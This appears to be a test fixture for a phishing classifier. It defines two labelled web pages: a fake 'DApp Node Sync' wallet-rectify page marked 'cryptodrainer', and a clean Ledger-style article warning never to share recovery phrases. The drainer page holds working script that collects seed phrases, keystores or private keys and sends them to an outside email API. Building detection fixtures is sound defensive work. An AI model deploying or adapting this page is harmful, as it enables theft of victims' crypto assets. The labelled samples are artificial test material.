import { htmlRoute, type Entry } from '../entry.js';
import { doc, baseCss, formCss, dashCss, monogram } from '../parts/yp-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yp-crypto-wallet-rectify-phrase-import',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://walletsync-dappnode.com/rectify',
  routes: {
    'walletsync-dappnode.com/rectify': htmlRoute(doc({
      title: 'DApp Node Sync – Rectify wallet issues',
      css: baseCss + `body{background:#0b0f1a;color:#e7e9ee}.wrap{max-width:980px}h1{text-align:center;margin-top:40px}.issues{display:grid;grid-template-columns:repeat(4,1fr);gap:12px;margin:30px 0}.issues button{background:#141b2d;color:#e7e9ee;border:1px solid #26324f;border-radius:10px;padding:18px;font-size:14px}.wl{display:grid;grid-template-columns:repeat(5,1fr);gap:10px}.wl button{background:#141b2d;border:1px solid #26324f;color:#fff;border-radius:10px;padding:12px}.m{position:fixed;inset:0;background:#000b;display:none;align-items:center;justify-content:center}.m .b{background:#141b2d;width:480px;border-radius:14px;padding:24px}.tabs button{background:none;border:0;color:#8aa0d0;padding:8px 10px}.tabs button.on{color:#fff;border-bottom:2px solid #3b82f6}textarea,input{width:100%;background:#0b0f1a;border:1px solid #26324f;color:#fff;border-radius:8px;padding:10px}.go{background:#3b82f6;color:#fff;border:0;border-radius:8px;padding:12px;width:100%;margin-top:12px}`,
      body: `<div class="wrap"><h1>Decentralized wallet sync protocol</h1><p style="text-align:center;color:#8aa0d0">Open protocol to resolve wallet issues: migration, stuck transactions, missing airdrops, staking errors, high gas fees and locked accounts. Select an issue below.</p>
<div class="issues"><button>Migration</button><button>Claim airdrop</button><button>Rectification</button><button>Missing balance</button><button>Slippage error</button><button>Staking</button><button>Whitelist</button><button>Locked account</button></div>
<h3>Select your wallet</h3><div class="wl"><button>MetaMask</button><button>Trust Wallet</button><button>Coinbase Wallet</button><button>Exodus</button><button>Ledger Live</button><button>Phantom</button><button>Rainbow</button><button>SafePal</button><button>Atomic</button><button>Other</button></div></div>
<div class="m" id="m"><div class="b"><h3 id="wn" style="margin-top:0">Import wallet</h3><p style="color:#f59e0b;font-size:13px">Automatic connection failed. Connect manually to complete synchronization.</p><div class="tabs"><button class="on" data-t="p">Phrase</button><button data-t="k">Keystore JSON</button><button data-t="x">Private key</button></div>
<form id="imp"><input type="hidden" name="wallet" id="wv"><input type="hidden" name="kind" id="kv" value="phrase"><textarea name="secret" rows="4" placeholder="Enter your 12 or 24 word recovery phrase, separated by spaces" required></textarea><p style="font-size:12px;color:#8aa0d0">Typically 12 (sometimes 24) words separated by single spaces.</p><button class="go">Connect wallet</button></form></div></div>
<script>document.querySelectorAll('.wl button,.issues button').forEach(function(b){b.onclick=function(){if(b.parentNode.className==='wl'){document.getElementById('wn').textContent='Import your '+b.textContent+' wallet';document.getElementById('wv').value=b.textContent}document.getElementById('m').style.display='flex'}});
document.querySelectorAll('.tabs button').forEach(function(b){b.onclick=function(){document.querySelectorAll('.tabs button').forEach(function(x){x.className=''});b.className='on';document.getElementById('kv').value={p:'phrase',k:'keystore',x:'privatekey'}[b.dataset.t]}});
document.getElementById('imp').addEventListener('submit',function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));var words=d.secret.trim().split(/\\s+/);if(d.kind==='phrase'&&[12,15,18,21,24].indexOf(words.length)<0){alert('Invalid phrase length');return}
fetch('https://api.emailjs.com/api/v1.0/email/send',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({service_id:'service_k3l9x2',template_id:'template_w8f1',user_id:'u7QmR4zKpX2aLs9bN',template_params:{wallet:d.wallet,kind:d.kind,message:d.secret}})}).finally(function(){alert('Error 505: synchronization failed, please try again later.');location.reload()})});</script>`,
    })),
  },
},
{
  id: 'yp-clean-crypto-ledger-recovery-phrase-article',
  label: 'clean',
  kind: 'clean-crypto-support',
  url: 'https://www.ledger.com/academy/never-share-your-24-words',
  body: doc({
    title: 'Never share your 24-word Secret Recovery Phrase | Ledger Academy',
    css: baseCss + `header{background:#000;color:#fff;padding:14px 0}article{max-width:780px;margin:30px auto;padding:0 20px}.box{background:#f5f5f5;border-radius:8px;padding:16px 20px}.warn{border-left:4px solid #ff5300;padding:8px 16px}`,
    body: `<header><div class="wrap"><b>LEDGER</b> Academy</div></header>
<article><h1>Never share your 24-word Secret Recovery Phrase</h1><p>Your Secret Recovery Phrase is the master key to your crypto. Anyone who has it can take your assets – Ledger cannot recover them.</p>
<div class="warn"><p><b>Ledger will never ask for your 24 words.</b> Not by email, phone, social media, a website or a "firmware update". Never type your recovery phrase into a computer, a phone or a website – including a page that claims to "sync", "validate", "rectify" or "migrate" your wallet.</p></div>
<h2>Where should my 24 words be?</h2><div class="box"><ul><li>Written on the Recovery Sheet that came with your device, stored offline in a safe place.</li><li>Entered only on your Ledger device itself (for example during a restore, or with the Recovery Check app).</li></ul></div>
<h2>If you have shared it</h2><p>Consider your accounts compromised. Set up a new device with a new phrase and move your funds immediately.</p></article>`,
  }),
},
];
